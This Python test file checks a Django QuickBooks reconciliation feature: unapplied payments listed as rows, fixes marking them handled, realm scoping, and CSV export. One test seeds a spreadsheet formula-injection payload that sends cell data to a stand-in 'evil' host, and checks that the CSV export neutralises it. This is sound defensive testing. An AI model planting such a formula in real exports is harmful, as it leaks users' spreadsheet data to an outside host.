"""Unapplied QuickBooks payments on the reconciliation page: each is a row (amount, customer, why), scoped to the
company and realm, whose fix marks it handled once a person has applied it in QuickBooks."""

import json
from decimal import Decimal

import pytest
import responses

from integrations.models import QuickBooksUnappliedPayment
from integrations.services import reconciliation
from tests.integrations.conftest import API, REALM

pytestmark = pytest.mark.django_db


@pytest.fixture
def no_invoices_there(intuit):
    intuit.add(responses.GET, f"{API}/query", body=json.dumps({"QueryResponse": {}}))


def unapplied(company, realm=REALM, **fields):
    return QuickBooksUnappliedPayment.objects.create(
        company=company,
        realm_id=realm,
        qbo_payment_id=fields.pop("qbo_payment_id", "77"),
        amount=Decimal("50.00"),
        customer_name=fields.pop("customer_name", "Alpha Client"),
        reason="Not applied to an invoice in QuickBooks.",
        **fields,
    )


def test_unapplied_payments_are_rows_and_the_fix_marks_them_handled(tenant, other_tenant, connected, no_invoices_there):
    mine = unapplied(tenant.company)
    unapplied(tenant.company, realm="4620816365180392970", qbo_payment_id="88")  # another QuickBooks company
    unapplied(other_tenant.company, qbo_payment_id="99")  # another tenant
    review = reconciliation.reconciliation_check(connection=connected)
    (row,) = review.rows
    assert (row["kind"], row["qbo_id"], row["fix"], row["number"]) == (
        "unapplied_payment",
        "77",
        "resolve",
        "Alpha Client",
    )
    assert row["differences"][0]["quickbooks"] == "50.00" and "Not applied" in row["text"]
    done = reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
    assert "marked as handled" in done
    mine.refresh_from_db()
    assert mine.status == "resolved"
    with pytest.raises(Exception, match="Already done"):
        reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)


def test_a_fix_from_a_check_of_a_quickbooks_company_connected_before_is_a_404(tenant, connected, no_invoices_there):
    from django.http import Http404

    from integrations.models import QuickBooksConnection

    mine = unapplied(tenant.company)
    review = reconciliation.reconciliation_check(connection=connected)
    QuickBooksConnection.objects.filter(pk=connected.pk).update(realm_id="4620816365180392970")
    connected.refresh_from_db()
    with pytest.raises(Http404):
        reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
    mine.refresh_from_db()
    assert mine.status == "open"


def test_the_csv_neutralises_formulas_even_behind_spaces_and_keeps_negative_amounts_numbers(
    tenant, connected, no_invoices_there
):
    unapplied(tenant.company, customer_name=' =HYPERLINK("http://evil/?"&A1,"x")')
    QuickBooksUnappliedPayment.objects.update(amount=Decimal("-5.00"))
    review = reconciliation.reconciliation_check(connection=connected)
    text = reconciliation.reconciliation_csv(review)
    assert "' =HYPERLINK" in text and ",-5.00," in text and "'-5.00" not in text
